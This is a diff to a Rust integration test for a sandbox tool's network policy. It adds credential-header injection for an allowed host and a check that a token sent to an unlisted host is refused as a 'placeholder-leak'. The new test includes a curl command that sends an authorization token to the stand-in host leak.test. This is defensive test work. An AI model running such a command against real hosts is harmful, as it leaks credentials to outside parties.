@@ -268,9 +268,11 @@ esac"#,
         seen = seen.display()
     );
     let policy = format!(
-        "[network]\nunknown = \"ask\"\nask_timeout = 3\ndeny = [\"denied.test\"]\nallow_cidr = [\"127.0.0.1/32\"]\n\n\
+        "[network]\nunknown = \"ask\"\nask_timeout = 3\nallow = [\"cred.test\"]\ndeny = [\"denied.test\"]\n\
+         allow_cidr = [\"127.0.0.1/32\"]\n\n\
+         [[credential]]\nhost = \"cred.test\"\nheader = \"authorization\"\nfrom_env = \"BB_ASK_TEST_TOKEN\"\n\n\
          [network.resolve]\n\"ok.test\" = \"127.0.0.1\"\n\"hang.test\" = \"127.0.0.1\"\n\"crash.test\" = \"127.0.0.1\"\n\
-         \"junk.test\" = \"127.0.0.1\"\n\"denied.test\" = \"127.0.0.1\"\n\n\
+         \"junk.test\" = \"127.0.0.1\"\n\"leak.test\" = \"127.0.0.1\"\n\"denied.test\" = \"127.0.0.1\"\n\n\
          [network.ask]\nreviewer = [\"sh\", \"-c\", {}]\n",
         toml_string(&reviewer)
     );
@@ -278,7 +280,14 @@ esac"#,
     std::fs::write(&file, policy).unwrap();
     let checked = scene.bb(&["policy", "check"]);
     assert_eq!(checked.status.code(), Some(0), "{}", text(&checked));
-    let out = scene.bb(&["run", "-d", "--name", "rev", "--", "sleep", "600"]);
+    let out = Command::new(BB)
+        .args(["run", "-d", "--name", "rev", "--", "sleep", "600"])
+        .current_dir(scene.path().join("w"))
+        .env("XDG_STATE_HOME", scene.state())
+        .env("HOME", scene.path())
+        .env("BB_ASK_TEST_TOKEN", "real-secret-of-the-ask-test")
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(0), "{}", text(&out));
     let port = up.port;
     scene.with_bottle("rev", || {
@@ -329,6 +338,12 @@ esac"#,
         if registry_is_private {
             assert_eq!(code(REGISTRY), "403");
         }
+        // A placeholder sent in plain HTTP to a host the policy does not cover: a leak, refused without a question.
+        let leak = scene.bb(&[
+            "exec", "rev", "--", "sh", "-c",
+            &format!("curl -s -o /dev/null -w '%{{http_code}}' -H \"authorization: $BB_ASK_TEST_TOKEN\" http://leak.test:{port}/"),
+        ]);
+        assert_eq!(String::from_utf8_lossy(&leak.stdout), "403", "{}", text(&leak));
         assert_eq!(up.requests(), 100, "nothing refused reached the upstream");
 
         let audit = scene.audit("rev");
@@ -362,7 +377,8 @@ esac"#,
         if registry_is_private {
             assert_eq!(rule_of(REGISTRY), ["private-address"], "{audit:?}");
         }
-        for never in ["denied.test", "93.184.216.34", REGISTRY] {
+        assert_eq!(rule_of("leak.test"), ["placeholder-leak"]);
+        for never in ["denied.test", "93.184.216.34", REGISTRY, "leak.test"] {
             assert!(
                 !questions.contains(&format!("\"host\":\"{never}")),
                 "{never} was asked: {questions}"
